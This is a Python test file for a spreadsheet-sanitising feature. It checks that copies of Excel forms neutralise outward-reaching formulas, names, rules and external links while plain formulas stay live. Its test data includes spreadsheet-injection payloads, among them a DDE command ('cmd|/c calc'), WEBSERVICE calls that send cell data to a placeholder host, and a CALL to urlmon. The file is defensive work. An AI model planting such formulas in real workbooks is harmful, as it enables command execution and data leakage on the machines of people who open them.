"""The marked copy of a form computes from its own cells and does nothing else when it is opened."""

from __future__ import annotations

import io

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula

from kinerja.excel.pencatat import Pencatat
from kinerja.excel.preflight import parse_berkas
from kinerja.excel.salinan import build_hasil_periksa
from kinerja.excel.salinan_rumus import is_rumus_aman
from kinerja.excel.tulis_temuan import IsiPeriksa
from tests.bantuan_excel import edit_buku, rewrite_zip, write_contoh_unit

KERJA = '=IF(A1="",0,ROUND(SUM(I5:I9)*2,0))'


@pytest.fixture
def salin(tmp_path):
    """Change a sound form, and give the copy that carries the verdict on it."""

    def jalan(ubah, ganti=None):
        jalur = edit_buku(write_contoh_unit(tmp_path), ubah)
        if ganti:
            rewrite_zip(jalur, ganti)
        isi, is_salinan = build_hasil_periksa(jalur.read_bytes(), IsiPeriksa("H", [("a", "b")], []))
        assert is_salinan
        assert parse_berkas(isi, Pencatat("a.xlsx")) is not None
        return openpyxl.load_workbook(io.BytesIO(isi))

    return jalan


@pytest.mark.parametrize(
    "rumus",
    [
        '=WEBSERVICE("http://contoh.invalid/"&A1)',
        "=cmd|'/c calc'!A0",
        "='[lain.xlsx]Lembar'!A1",
        "=[1]Lembar!A1",
        '=HYPERLINK("http://contoh.invalid","klik")',
        '=INDIRECT("A"&1)',
        '=IF(1=1,CALL("urlmon","x"),0)',
        "=_xlfn.IMAGE(A1)",
        '=SUM(1,sum (2),Webservice ("x"))',
        "=#REF!",
    ],
)
def test_a_formula_that_reaches_out_is_text(salin, rumus):
    """Shown as it was written, in a cell that stays text when somebody edits it."""
    buku = salin(lambda b: b["Indikator"].__setitem__("T5", rumus))
    sel = buku["Indikator"]["T5"]
    assert (sel.value, sel.data_type) == (rumus, "s")
    assert sel.quotePrefix


def test_plain_formulas_stay_live(salin):
    """A copy is corrected and handed in again: what it computes must still compute."""
    buku = salin(lambda b: b["Indikator"].__setitem__("T5", KERJA))
    sel = buku["Indikator"]["T5"]
    assert (sel.value, sel.data_type) == (KERJA, "f")


def test_array_and_table_formulas(salin):
    """The same terms; a what-if table, which is no formula of its cell, is emptied."""

    def ubah(buku):
        lembar = buku["Indikator"]
        lembar["T5"] = ArrayFormula("T5:T6", "=SUM(I5:I9)")
        lembar["U5"] = ArrayFormula("U5:U6", '=WEBSERVICE("x")')
        lembar["V5"] = DataTableFormula(ref="V5:V6", dt2D="1", r1="A1")

    lembar = salin(ubah)["Indikator"]
    assert lembar["T5"].value.text == "=SUM(I5:I9)"
    assert (lembar["U5"].value, lembar["U5"].data_type) == ('=WEBSERVICE("x")', "s")
    assert lembar["V5"].value is None


def test_names_rules_and_lists_are_kept_on_the_same_terms(salin):
    """A name is a formula under another word; so is a rule or a list."""
    jahat = 'WEBSERVICE("http://contoh.invalid")'

    def ubah(buku):
        buku.defined_names["baik"] = DefinedName("baik", attr_text="Indikator!$A$1")
        buku.defined_names["jahat"] = DefinedName("jahat", attr_text=jahat)
        lembar = buku["Indikator"]
        lembar.defined_names["jahat2"] = DefinedName("jahat2", attr_text=jahat)
        for rumus in ("$A$1=1", f"{jahat}=1"):
            lembar.conditional_formatting.add("T5:T9", FormulaRule(formula=[rumus]))
            aturan = DataValidation(type="custom", formula1=rumus)
            aturan.add("U5")
            lembar.add_data_validation(aturan)

    buku = salin(ubah)
    lembar = buku["Indikator"]
    assert list(buku.defined_names) == ["baik"]
    assert list(lembar.defined_names) == []
    assert lembar.print_title_rows == "$4:$4"
    rumus = [
        r for wilayah in lembar.conditional_formatting for a in wilayah.rules for r in a.formula
    ]
    daftar = [aturan.formula1 for aturan in lembar.data_validations.dataValidation]
    assert "$A$1=1" in rumus
    assert "$A$1=1" in daftar
    assert not [satu for satu in (*rumus, *daftar) if "WEBSERVICE" in str(satu)]


def test_links_to_other_workbooks_are_not_carried_along(salin):
    """The part that names the other file is gone."""
    tautan = (
        b'<Relationship Id="rIdL" Target="externalLinks/externalLink1.xml" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/externalLink"/></Relationships>'
    )
    buku = salin(
        lambda _: None,
        {"xl/_rels/workbook.xml.rels": lambda isi: isi.replace(b"</Relationships>", tautan)},
    )
    assert buku._external_links == []


def test_every_formula_of_the_kit_is_plain(asli):
    """The kit's own checks stay live in a copy, in every form of the sample."""
    jumlah = 0
    for jalur in sorted((asli / "data").rglob("tw*/*.xlsx")):
        buku = openpyxl.load_workbook(jalur)
        for lembar in buku:
            daftar = [sel.value for baris in lembar for sel in baris if sel.data_type == "f"]
            daftar += [
                f"={rumus}"
                for wilayah in lembar.conditional_formatting
                for aturan in wilayah.rules
                for rumus in aturan.formula
            ]
            daftar += [
                f"={rumus}"
                for aturan in lembar.data_validations.dataValidation
                for rumus in (aturan.formula1, aturan.formula2)
                if rumus
            ]
            assert [rumus for rumus in daftar if not is_rumus_aman(rumus)] == []
            jumlah += len(daftar)
    assert jumlah > 500
